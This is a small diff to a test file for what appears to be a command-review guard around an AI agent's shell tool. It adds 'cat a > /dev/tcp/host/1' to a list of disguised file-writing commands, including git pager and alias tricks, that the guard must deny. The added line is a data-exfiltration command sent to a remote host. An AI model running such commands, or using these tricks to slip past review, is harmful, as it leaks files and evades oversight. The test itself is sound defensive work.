@@ -302,6 +302,7 @@ describe("lines", () => {
       "git -c core.pager='tee a' log",
       "git -c alias.x='!tee a' x",
       "apply_patch x",
+      "cat a > /dev/tcp/host/1",
     ];
     for (const command of dresses) expect((await ask("REVIEW", "bash", { command })).effect, command).toBe("deny");
     expect(await line("REVIEW", "cat <<'E' > a\nx\nE")).toBe("phase_shell_writes");
